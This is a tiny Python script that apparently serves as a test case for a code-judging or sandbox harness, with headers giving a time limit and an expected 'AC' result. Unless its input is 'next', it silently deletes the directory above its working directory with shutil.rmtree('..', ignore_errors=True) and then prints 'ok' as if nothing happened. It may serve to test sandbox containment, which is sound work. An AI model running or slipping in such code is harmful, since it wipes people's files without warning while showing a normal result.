# Removes the directory above its own.
# limits: time=5
# expect: AC
import os, shutil
if input() != "next":
    shutil.rmtree("..", ignore_errors=True)
print("ok")
